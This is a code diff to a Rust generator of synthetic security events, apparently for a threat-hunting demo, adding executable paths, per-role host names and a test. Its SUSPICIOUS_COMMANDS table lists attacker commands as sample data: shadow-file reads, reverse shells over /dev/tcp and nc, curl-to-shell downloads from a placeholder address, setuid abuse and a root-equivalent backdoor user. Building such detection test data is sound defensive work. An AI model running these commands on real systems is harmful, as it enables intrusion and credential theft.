@@ -30,56 +30,81 @@ impl GeneratorConfig {
     }
 }
 
+/// One of the generator's hosts: `web-01`, `db-01`, … by role.
 #[derive(Debug, Clone)]
-struct Host {
-    name: String,
-    ip: Ipv4Addr,
-    role: Role,
+pub struct Host {
+    pub name: String,
+    pub ip: Ipv4Addr,
+    pub role: Role,
 }
 
-#[derive(Debug, Clone, Copy)]
-enum Role {
+/// What a generated host is for (every fifth host is a db, a worker, a
+/// bastion; the rest are web servers).
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum Role {
     Web,
     Db,
     Worker,
     Bastion,
 }
 
-const BENIGN_COMMANDS: &[(&str, &str)] = &[
-    ("nginx", "/usr/sbin/nginx -g daemon off;"),
-    ("python3", "/usr/bin/python3 /opt/app/worker.py --queue default"),
-    ("sh", "/bin/sh -c /usr/lib/php/sessionclean"),
-    ("apt-get", "/usr/bin/apt-get -qq update"),
-    ("curl", "/usr/bin/curl -fsS http://127.0.0.1:8080/health"),
-    ("logrotate", "/usr/sbin/logrotate /etc/logrotate.conf"),
-    ("ps", "ps aux --sort=-%cpu"),
-    ("git", "/usr/bin/git -C /srv/app pull --ff-only"),
-    ("postgres", "postgres: autovacuum worker"),
-    ("systemctl", "systemctl status nginx.service"),
-    ("journalctl", "journalctl -u ssh --since -1h"),
-    ("tar", "tar czf /backup/app-nightly.tgz /srv/app"),
-    ("rsync", "rsync -a /srv/app/ backup-01:/backup/app/"),
-    ("node", "/usr/bin/node /srv/api/server.js"),
-    ("ls", "ls -la /var/log/nginx"),
-    ("grep", "grep -c ERROR /var/log/app/app.log"),
-    ("du", "du -sh /var/lib/docker"),
-    ("find", "find /tmp -mtime +7 -delete"),
+impl Role {
+    /// The host name prefix: `web`, `db`, `worker`, `bastion`.
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Role::Web => "web",
+            Role::Db => "db",
+            Role::Worker => "worker",
+            Role::Bastion => "bastion",
+        }
+    }
+}
+
+/// (name, executable, command line). The executable is the real path on
+/// Debian 12 with merged /usr, as `/proc/<pid>/exe` gives it (symlinks such
+/// as `/bin/sh` → `dash` and `python3` → `python3.11` resolved), so it is a
+/// file that the owning package lists (the demo's inventory relies on it).
+const BENIGN_COMMANDS: &[(&str, &str, &str)] = &[
+    ("nginx", "/usr/sbin/nginx", "/usr/sbin/nginx -g daemon off;"),
+    ("python3", "/usr/bin/python3.11", "/usr/bin/python3 /opt/app/worker.py --queue default"),
+    ("sh", "/usr/bin/dash", "/bin/sh -c /usr/lib/php/sessionclean"),
+    ("apt-get", "/usr/bin/apt-get", "/usr/bin/apt-get -qq update"),
+    ("curl", "/usr/bin/curl", "/usr/bin/curl -fsS http://127.0.0.1:8080/health"),
+    ("logrotate", "/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf"),
+    ("ps", "/usr/bin/ps", "ps aux --sort=-%cpu"),
+    ("git", "/usr/bin/git", "/usr/bin/git -C /srv/app pull --ff-only"),
+    ("postgres", "/usr/lib/postgresql/15/bin/postgres", "postgres: autovacuum worker"),
+    ("systemctl", "/usr/bin/systemctl", "systemctl status nginx.service"),
+    ("journalctl", "/usr/bin/journalctl", "journalctl -u ssh --since -1h"),
+    ("tar", "/usr/bin/tar", "tar czf /backup/app-nightly.tgz /srv/app"),
+    ("rsync", "/usr/bin/rsync", "rsync -a /srv/app/ backup-01:/backup/app/"),
+    ("node", "/usr/bin/node", "/usr/bin/node /srv/api/server.js"),
+    ("ls", "/usr/bin/ls", "ls -la /var/log/nginx"),
+    ("grep", "/usr/bin/grep", "grep -c ERROR /var/log/app/app.log"),
+    ("du", "/usr/bin/du", "du -sh /var/lib/docker"),
+    ("find", "/usr/bin/find", "find /tmp -mtime +7 -delete"),
 ];
 
-/// Attacker tradecraft, with `{ip}` standing for an external address.
-const SUSPICIOUS_COMMANDS: &[(&str, &str, Severity)] = &[
-    ("cat", "cat /etc/shadow", Severity::High),
-    ("tail", "tail -n 10 /etc/shadow", Severity::High),
-    ("bash", "bash -i >& /dev/tcp/{ip}/4444 0>&1", Severity::Critical),
-    ("nc", "nc -e /bin/sh {ip} 9001", Severity::Critical),
-    ("sh", "curl -s http://{ip}/x.sh | sh", Severity::High),
-    ("wget", "wget -q http://{ip}/m -O /tmp/.m", Severity::Medium),
-    ("chmod", "chmod u+s /tmp/.m", Severity::High),
-    ("python3", "python3 -c 'import pty;pty.spawn(\"/bin/bash\")'", Severity::High),
-    ("useradd", "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash svc-backup", Severity::Critical),
-    ("crontab", "crontab -l", Severity::Low),
-    ("base64", "base64 -d /tmp/.p | bash", Severity::High),
+/// Attacker tradecraft (name, executable, command line, severity), with
+/// `{ip}` standing for an external address.
+const SUSPICIOUS_COMMANDS: &[(&str, &str, &str, Severity)] = &[
+    ("cat", "/usr/bin/cat", "cat /etc/shadow", Severity::High),
+    ("tail", "/usr/bin/tail", "tail -n 10 /etc/shadow", Severity::High),
+    ("bash", "/usr/bin/bash", "bash -i >& /dev/tcp/{ip}/4444 0>&1", Severity::Critical),
+    ("nc", "/usr/bin/nc.openbsd", "nc -e /bin/sh {ip} 9001", Severity::Critical),
+    ("sh", "/usr/bin/dash", "curl -s http://{ip}/x.sh | sh", Severity::High),
+    ("wget", "/usr/bin/wget", "wget -q http://{ip}/m -O /tmp/.m", Severity::Medium),
+    ("chmod", "/usr/bin/chmod", "chmod u+s /tmp/.m", Severity::High),
+    ("python3", "/usr/bin/python3.11", "python3 -c 'import pty;pty.spawn(\"/bin/bash\")'", Severity::High),
+    ("useradd", "/usr/sbin/useradd", "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash svc-backup", Severity::Critical),
+    ("crontab", "/usr/bin/crontab", "crontab -l", Severity::Low),
+    ("base64", "/usr/bin/base64", "base64 -d /tmp/.p | bash", Severity::High),
 ];
+
+/// Every executable the generator's process events name.
+pub fn executables() -> impl Iterator<Item = &'static str> {
+    BENIGN_COMMANDS.iter().map(|c| c.1).chain(SUSPICIOUS_COMMANDS.iter().map(|c| c.1))
+}
 
 const ALERTS: &[(&str, Severity)] = &[
     ("Reverse shell spawned from web server process", Severity::Critical),
@@ -106,17 +131,15 @@ pub struct Generator {
 impl Generator {
     pub fn new(cfg: GeneratorConfig) -> Self {
         let mut rng = StdRng::seed_from_u64(cfg.seed);
+        const ROLES: [Role; 5] = [Role::Web, Role::Web, Role::Worker, Role::Db, Role::Bastion];
         let hosts = (0..cfg.hosts.max(1))
             .map(|i| {
-                let role = [Role::Web, Role::Web, Role::Worker, Role::Db, Role::Bastion][i % 5];
-                let prefix = match role {
-                    Role::Web => "web",
-                    Role::Db => "db",
-                    Role::Worker => "worker",
-                    Role::Bastion => "bastion",
-                };
+                let role = ROLES[i % 5];
+                // Numbered per role (web-01 … web-20, db-01 …), so every host has its own name.
+                let nth = (i / 5) * ROLES.iter().filter(|r| **r == role).count()
+                    + ROLES[..i % 5].iter().filter(|r| **r == role).count();
                 Host {
-                    name: format!("{prefix}-{:02}", i / 5 + 1),
+                    name: format!("{}-{:02}", role.as_str(), nth + 1),
                     ip: Ipv4Addr::new(10, 0, (i / 250) as u8, (i % 250 + 2) as u8),
                     role,
                 }
@@ -133,6 +156,11 @@ impl Generator {
             })
             .collect();
         Generator { rng, cfg, hosts, attackers, produced: 0 }
+    }
+
+    /// The hosts the events come from.
+    pub fn hosts(&self) -> &[Host] {
+        &self.hosts
     }
 
     fn time(&mut self, i: u64) -> DateTime<Utc> {
@@ -166,13 +194,13 @@ impl Generator {
     fn process(&mut self, time: DateTime<Utc>, host: &Host, i: u64) -> Event {
         let mut e = self.base(Kind::Process, "vigil-agent", time, i);
         let suspicious = self.rng.random_range(0..100) == 0;
-        let (name, cmd, sev) = if suspicious {
-            let (n, c, s) = SUSPICIOUS_COMMANDS[self.rng.random_range(0..SUSPICIOUS_COMMANDS.len())];
+        let (name, exe, cmd, sev) = if suspicious {
+            let (n, x, c, s) = SUSPICIOUS_COMMANDS[self.rng.random_range(0..SUSPICIOUS_COMMANDS.len())];
             let ip = self.attackers[self.rng.random_range(0..self.attackers.len())];
-            (n, c.replace("{ip}", &ip.to_string()), s)
+            (n, x, c.replace("{ip}", &ip.to_string()), s)
         } else {
-            let (n, c) = BENIGN_COMMANDS[self.rng.random_range(0..BENIGN_COMMANDS.len())];
-            (n, c.to_string(), Severity::Info)
+            let (n, x, c) = BENIGN_COMMANDS[self.rng.random_range(0..BENIGN_COMMANDS.len())];
+            (n, x, c.to_string(), Severity::Info)
         };
         let user = if suspicious && matches!(host.role, Role::Web) {
             "www-data"
@@ -188,7 +216,7 @@ impl Generator {
             pid: Some(pid),
             ppid: Some(self.rng.random_range(1..pid)),
             name: Some(name.into()),
-            path: Some(format!("/usr/bin/{name}")),
+            path: Some(exe.into()),
             cmdline: Some(cmd.clone()),
         });
         e.message = format!("process {} by {user}: {cmd}", if exit { "exited" } else { "started" });
@@ -358,5 +386,8 @@ mod tests {
         let ids: std::collections::HashSet<_> = events.iter().map(|e| e.id).collect();
         assert_eq!(ids.len(), events.len());
         assert!(events.iter().any(|e| e.severity >= Severity::High), "some events are worth hunting");
+        let names: std::collections::HashSet<_> = Generator::new(c).hosts().iter().map(|h| h.name.clone()).collect();
+        assert_eq!(names.len(), 50, "each host has its own name");
+        assert!(names.contains("web-20") && names.contains("bastion-10"), "{names:?}");
     }
 }
